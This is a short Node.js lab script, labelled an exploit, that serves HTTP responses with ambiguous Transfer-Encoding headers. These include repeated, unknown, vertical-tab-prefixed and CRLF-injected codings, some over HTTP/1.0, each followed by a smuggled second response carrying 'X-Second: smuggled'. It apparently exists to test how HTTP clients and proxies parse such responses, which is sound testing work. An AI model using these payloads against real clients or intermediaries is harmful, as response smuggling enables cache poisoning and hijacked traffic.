// exploit: names codings of transfer that readers disagree about: several, unknown, repeated, in another case, in an answer of HTTP/1.0
// kind: lab
// steps: GET /0 | GET /1 | GET /2 | GET /3 | GET /4 | GET /5 | GET /6 | GET /7
// outcome: finished
// hides: \["X-Second
const codings = ['gzip, chunked', 'chunked, chunked', 'chunked, identity', 'xchunked', 'Chunked;q=1', '\x0bchunked', 'chunked\r\nTransfer-Encoding: identity', 'identity']
require('node:net').createServer((socket) => {
  socket.on('error', () => {}).once('data', (bytes) => {
    const index = Number(/^GET \/(\d)/.exec(bytes.toString('latin1'))?.[1])
    const version = index % 2 ? '1.0' : '1.1'
    socket.end(`HTTP/${version} 200 OK\r\nTransfer-Encoding: ${codings[index]}\r\nConnection: close\r\n\r\n4\r\nreal\r\n0\r\n\r\nHTTP/1.1 200 OK\r\nX-Second: smuggled\r\nContent-Length: 0\r\n\r\n`)
  })
}).listen(process.env.PORT)
